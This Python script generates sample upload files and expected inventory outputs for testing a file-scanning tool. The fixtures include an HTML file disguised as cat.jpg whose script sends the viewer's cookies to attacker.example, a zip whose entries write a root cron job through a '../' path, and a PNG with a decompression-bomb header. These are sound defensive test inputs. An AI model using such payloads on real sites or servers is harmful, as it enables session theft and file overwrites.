#!/usr/bin/env python3
"""Generates sample-data/uploads/ and sample-data/expected/uploads-inventory/.

A small upload store of a web shop's users: photos, scans, documents, data exports and
backups under <owner>/..., with the awkward cases an upload store has: duplicates across owners,
misnamed files, a truncated PNG, a PNG whose header declares 30000 x 30000 pixels (a
decompression bomb's header with a few bytes of data), a zip whose entries name ../ paths,
empty files, a name with a tab, a UTF-8 name, a hidden file, a file above any owner.

Standard library only, byte-for-byte deterministic: every image is written by hand here (PNG with
stored deflate blocks, baseline JPEG, GIF, BMP), every compressed stream uses stored (level 0)
deflate blocks written here, so no zlib version changes a byte; no wall clock, no randomness
without a fixed seed, no dependence on hash order, locale or time zone.

The expected outputs come from what this script wrote, not from Colony: SHA-256 with hashlib
over the bytes it wrote (checked against `sha256sum`), the media type it knows each file is,
the media type Tika's name globs give each extension (a table below), sizes, owners, duplicate
groups.

    python3 sample-data/tools/make_uploads.py
"""

import hashlib
import os
import random
import shutil
import struct
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
UPLOADS = ROOT / "uploads"
EXPECTED = ROOT / "expected" / "uploads-inventory"

# Fixed modification times (git does not keep them; tests read the files' own).
MTIME = 1764000000  # 2025-11-24T16:00:00Z


# --- compression without zlib's encoder ------------------------------------------------------

def deflate_stored(data):
    """Raw deflate of `data` in stored blocks (BTYPE 00): the same bytes with every zlib."""
    out = bytearray()
    if not data:
        return bytes([1, 0, 0, 0xFF, 0xFF])
    for i in range(0, len(data), 65535):
        block = data[i:i + 65535]
        final = 1 if i + 65535 >= len(data) else 0
        out += bytes([final]) + struct.pack("<HH", len(block), len(block) ^ 0xFFFF) + block
    return bytes(out)


def zlib_stored(data):
    """A zlib stream (RFC 1950) of stored deflate blocks."""
    return b"\x78\x01" + deflate_stored(data) + struct.pack(">I", zlib.adler32(data))


def gzip_stored(data, name=None):
    """A gzip member (RFC 1952), mtime 0, of stored deflate blocks."""
    flags = 0x08 if name else 0
    header = b"\x1f\x8b\x08" + bytes([flags]) + struct.pack("<I", 0) + b"\x00\x03"
    if name:
        header += name.encode("latin-1") + b"\x00"
    return (header + deflate_stored(data)
            + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF))


# --- images ----------------------------------------------------------------------------------

def picture(width, height, seed):
    """RGB rows of a deterministic picture: a gradient with a few coloured discs."""
    rnd = random.Random(seed)
    discs = [(rnd.randrange(width), rnd.randrange(height), rnd.randrange(4, 12),
              (rnd.randrange(256), rnd.randrange(256), rnd.randrange(256))) for _ in range(4)]
    rows = []
    for y in range(height):
        row = []
        for x in range(width):
            px = (x * 255 // max(1, width - 1), y * 255 // max(1, height - 1), 128)
            for cx, cy, r, colour in discs:
                if (x - cx) ** 2 + (y - cy) ** 2 <= r * r:
                    px = colour
            row.append(px)
        rows.append(row)
    return rows


def png_chunk(kind, data):
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png(rows, declared=None, idat=None):
    """An 8-bit RGB PNG; `declared` overrides the IHDR size, `idat` the image data."""
    height = len(rows)
    width = len(rows[0]) if rows else 0
    w, h = declared or (width, height)
    raw = b"".join(b"\x00" + bytes(c for px in row for c in px) for row in rows)
    return (b"\x89PNG\r\n\x1a\n"
            + png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + png_chunk(b"IDAT", idat if idat is not None else zlib_stored(raw))
            + png_chunk(b"IEND", b""))


def bmp(rows):
    """A 24-bit uncompressed BMP (BITMAPINFOHEADER), rows bottom-up, padded to 4 bytes."""
    height = len(rows)
    width = len(rows[0])
    stride = (width * 3 + 3) & ~3
    pixels = bytearray()
    for row in reversed(rows):
        line = bytearray()
        for r, g, b in row:
            line += bytes((b, g, r))
        pixels += line + b"\x00" * (stride - len(line))
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(header) + len(pixels), 0, 0,
                               14 + len(header)) + header + bytes(pixels)


def gif(rows):
    """A GIF89a with a 128-colour palette; LZW with 8-bit codes, a clear code every 126 pixels
    (the dictionary never grows past 8 bits), so no variable-width coding is needed."""
    height = len(rows)
    width = len(rows[0])
    palette = []
    indices = []
    for row in rows:
        for px in row:
            # quantize to 4 x 8 x 4 levels: 128 colours
            q = (px[0] >> 6, px[1] >> 5, px[2] >> 6)
            index = (q[0] << 5) | (q[1] << 2) | q[2]
            indices.append(index)
    for i in range(128):
        palette += [((i >> 5) & 3) * 85, ((i >> 2) & 7) * 36, (i & 3) * 85]
    codes = bytearray()
    for i in range(0, len(indices), 126):
        codes.append(128)  # clear
        codes += bytes(indices[i:i + 126])
    codes.append(129)  # end of information
    data = bytearray([7])  # LZW minimum code size: 8-bit codes
    for i in range(0, len(codes), 255):
        block = codes[i:i + 255]
        data += bytes([len(block)]) + block
    data += b"\x00"
    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0xF6, 0, 0) + bytes(palette)
            + b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + bytes(data) + b"\x3b")


def jpeg(rows):
    """A baseline JPEG (JFIF, 4:4:4) of the picture averaged over 8x8 blocks: each block is flat,
    so only DC coefficients are coded (every AC block is one end-of-block code). Quantization 8
    on DC makes each block's level exact. Width and height must be multiples of 8."""
    height = len(rows)
    width = len(rows[0])
    assert width % 8 == 0 and height % 8 == 0

    def ycc(r, g, b):
        return (0.299 * r + 0.587 * g + 0.114 * b,
                128 - 0.168736 * r - 0.331264 * g + 0.5 * b,
                128 + 0.5 * r - 0.418688 * g - 0.081312 * b)

    # DC table: categories 0..11, all 4-bit codes 0000..1011; AC table: EOB 00, ZRL 01
    dc_bits = [0, 0, 0, 12] + [0] * 12
    dc_codes = {s: (s, 4) for s in range(12)}
    ac_bits = [0, 2] + [0] * 14
    eob = (0, 2)
    out = bytearray(b"\xff\xd8")
    out += b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    quant = [8] + [1] * 63
    out += b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(quant)
    out += b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3)
    for c in (1, 2, 3):
        out += bytes([c, 0x11, 0])
    out += b"\xff\xc4" + struct.pack(">H", 3 + 16 + 12) + b"\x00" + bytes(dc_bits) + bytes(range(12))
    out += b"\xff\xc4" + struct.pack(">H", 3 + 16 + 2) + b"\x10" + bytes(ac_bits) + b"\x00\xf0"
    out += b"\xff\xda" + struct.pack(">HB", 12, 3)
    for c in (1, 2, 3):
        out += bytes([c, 0x00])
    out += b"\x00\x3f\x00"

    bits = []

    def put(value, length):
        for i in range(length - 1, -1, -1):
            bits.append((value >> i) & 1)

    previous = [0, 0, 0]
    for by in range(0, height, 8):
        for bx in range(0, width, 8):
            sums = [0.0, 0.0, 0.0]
            for y in range(by, by + 8):
                for x in range(bx, bx + 8):
                    for k, v in enumerate(ycc(*rows[y][x])):
                        sums[k] += v
            for k in range(3):
                level = max(0, min(255, int(round(sums[k] / 64))))
                dc = level - 128
                diff = dc - previous[k]
                previous[k] = dc
                size = 0 if diff == 0 else abs(diff).bit_length()
                put(*dc_codes[size])
                if size:
                    put(diff if diff > 0 else diff + (1 << size) - 1, size)
                put(*eob)
    while len(bits) % 8:
        bits.append(1)
    scan = bytearray()
    for i in range(0, len(bits), 8):
        byte = int("".join(map(str, bits[i:i + 8])), 2)
        scan.append(byte)
        if byte == 0xFF:
            scan.append(0)
    return bytes(out + scan + b"\xff\xd9")


# --- documents and archives ------------------------------------------------------------------

def pdf(title):
    """A one-page PDF 1.4 with a line of Helvetica text and a correct xref table."""
    text = title.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for o in offsets:
        out += f"{o:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
            .encode())
    return bytes(out)


def zip_stored(entries):
    """A zip of stored entries (method 0), DOS time 1980-01-01 00:00, built by hand so that no
    Python version changes a byte. Entry names are written as given, ../ included."""
    local = bytearray()
    central = bytearray()
    for name, data in entries:
        n = name.encode("utf-8")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(local)
        fields = struct.pack("<HHHHHIIIHH", 20, 0x0800, 0, 0, 0x21, crc, len(data), len(data),
                             len(n), 0)
        local += b"PK\x03\x04" + fields + n + data
        central += (b"PK\x01\x02" + struct.pack("<H", 0x0314) + fields
                    + struct.pack("<HHHII", 0, 0, 0, 0o100644 << 16, offset) + n)
    end = (b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries),
                                       len(central), len(local), 0))
    return bytes(local + central + end)


# --- the store -------------------------------------------------------------------------------

# What Tika's name globs (tika-mimetypes.xml) give each extension used here.
NAME_TYPES = {
    ".jpg": "image/jpeg", ".png": "image/png", ".gif": "image/gif", ".bmp": "image/bmp",
    ".pdf": "application/pdf", ".zip": "application/zip", ".gz": "application/gzip",
    ".txt": "text/plain", ".json": "application/json", ".csv": "text/csv",
    ".html": "text/html", ".log": "text/x-log",
}

# Kinds of content and the media type magic detection gives them; generic kinds (plain text,
# unknown bytes) never disagree with a name.
GENERIC = {"text/plain", "application/octet-stream"}
# Name types that are a kind of plain text: text/plain content agrees with them.
TEXT_KINDS = {"text/plain", "application/json", "text/csv", "text/html", "text/x-log"}


def disagree(name_type, content_type):
    if name_type is None or content_type in GENERIC and (
            content_type == "application/octet-stream" or name_type in TEXT_KINDS):
        return False
    return name_type != content_type


def build():
    beach = jpeg(picture(64, 48, 1))
    sunset = png(picture(48, 32, 2))
    cv = pdf("Alice Example - Curriculum vitae")
    notes = ("Shopping list\n- coffee beans\n- oat milk\n- 2 x winter jacket (returns)\n"
             .encode("utf-8"))
    orders_json = ('{"orders": [{"id": 1041, "total": 59.90, "currency": "EUR"}, '
                   '{"id": 1042, "total": 12.50, "currency": "EUR"}]}\n').encode("utf-8")
    orders_csv = b"id,total,currency\n1041,59.90,EUR\n1042,12.50,EUR\n"
    corrupt = png(picture(32, 32, 7))
    truncated = corrupt[:len(corrupt) * 2 // 3]  # cut inside IDAT: no IEND, bad CRC
    bomb_rows = [[(0, 0, 0)] * 16 for _ in range(2)]
    bomb_raw = b"".join(b"\x00" + bytes(48) for _ in bomb_rows)
    bomb = png(bomb_rows, declared=(30000, 30000), idat=zlib_stored(bomb_raw))
    html = (b"<!DOCTYPE html>\n<html><head><title>totally a photo</title></head>\n"
            b"<body><script>document.location='https://attacker.example/?c='+document.cookie"
            b"</script></body></html>\n")

    files = [
        # path, bytes, media type by content
        ("alice/photos/beach.jpg", beach, "image/jpeg"),
        ("alice/photos/sunset.png", sunset, "image/png"),
        ("alice/photos/garden.png", png(picture(40, 40, 3)), "image/png"),
        ("alice/photos/city-at-night.jpg", jpeg(picture(48, 32, 4)), "image/jpeg"),
        ("alice/avatar.gif", gif(picture(16, 16, 5)), "image/gif"),
        ("alice/docs/cv.pdf", cv, "application/pdf"),
        ("alice/docs/notes.txt", notes, "text/plain"),
        ("alice/.DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(24), None),  # hidden: not an upload
        ("bob/photos/beach.jpg", beach, "image/jpeg"),
        ("bob/photos/dog.gif", gif(picture(24, 24, 6)), "image/gif"),
        ("bob/scan-2026-11-02.bmp", bmp(picture(24, 16, 8)), "image/bmp"),
        ("bob/data/orders.json", orders_json, "text/plain"),
        ("bob/data/orders.csv", orders_csv, "text/plain"),
        ("bob/backup/photos.zip", zip_stored([("beach.jpg", beach), ("sunset.png", sunset)]),
         "application/zip"),
        ("bob/backup/notes.txt.gz", gzip_stored(notes, "notes.txt"), "application/gzip"),
        ("carol/notes\tdraft.txt", b"a name with a tab in it\n", "text/plain"),
        ("carol/r\u00e9sum\u00e9.pdf", cv, "application/pdf"),
        ("carol/holiday.png", beach, "image/jpeg"),            # a JPEG named .png
        ("carol/profile.jpg", sunset, "image/png"),            # a PNG named .jpg
        ("carol/photos/beach (1).jpg", beach, "image/jpeg"),
        ("dave/empty.txt", b"", "application/octet-stream"),
        ("dave/logs/empty.log", b"", "application/octet-stream"),
        ("dave/settings.json.png", b'{"theme": "dark", "lang": "de"}\n', "text/plain"),
        ("dave/report.pdf", pdf("Quarterly report Q3"), "application/pdf"),
        ("mallory/broken.png", truncated, "image/png"),
        ("mallory/bomb-30000x30000.png", bomb, "image/png"),
        ("mallory/cat.jpg", html, "text/html"),                # HTML with a script named .jpg
        ("mallory/zip-slip.zip", zip_stored([("../../etc/cron.d/evil", b"* * * * * root id\n"),
                                             ("/tmp/absolute.txt", b"absolute\n"),
                                             ("ok.txt", b"fine\n")]), "application/zip"),
        ("readme.txt", b"Uploads of the shop's users, one folder per user.\n", "text/plain"),
    ]

    if UPLOADS.exists():
        shutil.rmtree(UPLOADS)
    for rel, data, _ in files:
        p = UPLOADS / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        os.utime(p, (MTIME, MTIME))

    visible = sorted(((rel, data, kind) for rel, data, kind in files if kind is not None),
                     key=lambda f: f[0].encode("utf-8"))
    EXPECTED.mkdir(parents=True, exist_ok=True)
    rows = []
    owners = {}
    by_hash = {}
    for rel, data, kind in visible:
        name = rel.rsplit("/", 1)[-1]
        ext = os.path.splitext(name)[1].lower()
        name_type = NAME_TYPES.get(ext)
        owner = rel.split("/")[0] if "/" in rel else ""
        digest = hashlib.sha256(data).hexdigest()
        rows.append([esc(rel), esc(owner), str(len(data)), digest, kind, name_type or "-",
                     "true" if disagree(name_type, kind) else "false"])
        tally = owners.setdefault((esc(owner), kind), [0, 0])
        tally[0] += 1
        tally[1] += len(data)
        by_hash.setdefault(digest, []).append((rel, len(data)))

    write_tsv(EXPECTED / "files.tsv",
              "path\towner\tsize\tsha256\tmedia_type\textension_type\textension_mismatch", rows)
    write_tsv(EXPECTED / "owners.tsv", "owner\tmedia_type\tfiles\tbytes",
              [[o, t, str(n), str(b)] for (o, t), (n, b) in
               sorted(owners.items(), key=lambda kv: (kv[0][0].encode(), kv[0][1].encode()))])
    dups = []
    for digest, copies in sorted(by_hash.items()):
        if len(copies) > 1:
            paths = sorted((rel for rel, _ in copies), key=lambda r: r.encode("utf-8"))
            dups.append([digest, str(len(copies)), str(copies[0][1] * (len(copies) - 1)),
                         esc(" // ".join(paths))])
    write_tsv(EXPECTED / "duplicates.tsv", "sha256\tcopies\tbytes_reclaimable\tpaths", dups)

    total = sum(len(d) for _, d, _ in files)
    print(f"{len(files)} files ({len(visible)} visible, {len(files) - len(visible)} hidden), "
          f"{total:,} bytes; {len(dups)} duplicated contents")
    for row in rows:
        print("  " + "  ".join(row[:3] + row[4:]))


def esc(s):
    """Colony's TSV escaping (org.colony.jobs.common.Tsv) of a string's UTF-8 bytes."""
    out = []
    for ch in s:
        c = ord(ch)
        if ch == "\\":
            out.append("\\\\")
        elif ch == "\t":
            out.append("\\t")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif c < 0x20 or c == 0x7F:
            out.append("\\x%02X" % c)
        else:
            out.append(ch)
    return "".join(out) or "-"


def write_tsv(path, header, rows):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(header + "\n")
        for r in rows:
            f.write("\t".join(r) + "\n")


if __name__ == "__main__":
    build()
